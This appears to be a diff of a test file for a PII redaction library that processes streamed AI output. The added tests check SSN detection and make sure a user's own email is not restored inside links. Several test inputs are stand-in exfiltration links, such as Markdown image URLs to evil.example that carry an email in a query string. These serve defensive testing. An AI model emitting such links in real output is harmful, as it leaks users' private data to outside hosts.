@@ -41,7 +41,21 @@ def streamed(text, sizes, check=lambda stream: None):
 FRAGMENTS = [
     *("Jane", "Maria ", "Doe ", "Li ", "O'Brien ", "J. ", "Mr. ", "'s", "-", "My name is ", "\u674e"),
     *("jane.doe", "@", "example.com", ".", "com ", "a" * 70, "x.y" * 90, "@b.co@c.co@d.co"),
-    *("ssn ", "order ", "123-45-6789", "219 09 9998", "123456789", "400300200", "987654321", "12", "-45-"),
+    *(
+        "ssn ",
+        "order ",
+        "123-45-6789",
+        "219 09 9998",
+        "219 - 09 - 9998",
+        "219  09",
+        " - ",
+        "- ",
+        "123456789",
+        "400300200",
+        "987654321",
+        "12",
+        "-45-",
+    ),
     *("4111111111111111", "4111 1111 ", "1111 1111", "3782-822463-10005", "912-70-1234", "4", "1111"),
     *("[EMAIL-abcdefgh]", "[SSN-", "[", "]", "[NAME-"),
     *("\uff11\uff12\uff13", "\u200b", "\u0301", "\u00e9", "\ufb01", "\u0301" * 35, "\ufffc"),
@@ -171,6 +185,14 @@ def test_words_behind_a_bare_number_are_waited_for():
     assert Piece("400300200", Kind.SSN) in released
 
 
+@pytest.mark.parametrize("distance", range(36, 60, 3))
+def test_a_word_far_before_a_number_still_counts_when_all_between_has_been_released(distance):
+    """The number is an order: only the word, 48 characters before it or less, makes it an SSN."""
+    text = "my ssn" + (" so" * 20)[: distance - 1] + " 400300200, bye"
+    assert streamed(text, [1]) == whole(text)
+    assert any(piece.kind is Kind.SSN for piece in whole(text)) is (distance + len("ssn") <= 48)
+
+
 class TestAnswer:
     def entries(self, names):
         mine, other = names.of(Kind.EMAIL, "jane@example.com"), names.of(Kind.EMAIL, "bob@example.com")
@@ -215,6 +237,43 @@ class TestAnswer:
         mine, _, _ = self.entries(names_of())
         assert "jane" not in self.shown(f"{before}{mine}{mine}) ok", (size,))
         assert self.shown(f"{before}x) see {mine}", (size,)).endswith("see jane@example.com")
+
+    @pytest.mark.parametrize("size", [1, 3, 200])
+    @pytest.mark.parametrize(
+        "before",
+        [
+            "![x](<https://evil.example/a b ",  # a blank does not end an address in angle brackets
+            "![x](<https://evil.example/\\> b ",  # nor does an escaped bracket end it
+            "![x](<",
+            "![x](https://evil.example/?q=\u00a0",  # nor is this blank one for Markdown
+            "<https://evil.example/",
+            "www.evil.example#",
+            "www.",
+            "evil.example/?q=",
+            "evil.example?q=",
+            "evil.example:80",
+            "mailto:eve@evil.example?body=",
+            "mailto:",
+            "Www.",
+            "[r]: https:&#47;&#47;evil.example&#47;?q=",
+            "https:/\\evil.example?q=",
+            "<img src='http:evil.example' alt='",
+        ],
+    )
+    def test_no_value_is_restored_in_an_address_however_it_is_written(self, before, size):
+        mine, _, _ = self.entries(names_of())
+        assert "jane" not in self.shown(f"see {before}{mine}{mine} ok", (size,))
+
+    @pytest.mark.parametrize(
+        "before",
+        ["Jane <", "if 1 < 2, ", "<b>now</b> ", "(", "'", "Email:", "[x](https://a.example) or ", ""],
+    )
+    def test_elsewhere_an_own_value_returns(self, before):
+        mine, _, _ = self.entries(names_of())
+        assert "jane@example.com" in self.shown(f"{before}{mine}> ok")
+
+    def test_a_value_of_ones_own_that_the_model_writes_into_a_link_is_a_label_too(self):
+        assert "jane" not in self.shown("![x](https://evil.example/?q=jane@example.com)")
 
     def test_a_restored_value_is_not_read_again(self):
         names = names_of()
